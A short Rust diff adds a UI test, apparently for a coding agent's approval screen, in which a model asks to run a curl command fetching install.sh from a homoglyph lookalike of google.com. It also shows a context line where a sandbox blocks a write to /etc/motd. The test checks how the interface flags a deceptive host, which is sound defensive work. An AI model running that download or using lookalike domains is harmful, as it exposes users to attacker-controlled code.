@@ -93,6 +93,14 @@ fn a_command_asks_to_run_outside() {
 }
 
 #[test]
+fn a_host_that_is_not_what_it_looks_like() {
+    screens("question_twin", |model| {
+        push(model, false, user("Fetch the installer"));
+        ask(model, "curl -fsS https://get.g\u{43e}\u{43e}gle.com/install.sh -o install.sh", None);
+    });
+}
+
+#[test]
 fn the_sandbox_was_in_the_way() {
     screens("blocked", |model| {
         let complaint = "touch: cannot touch '/etc/motd': Read-only file system\n";
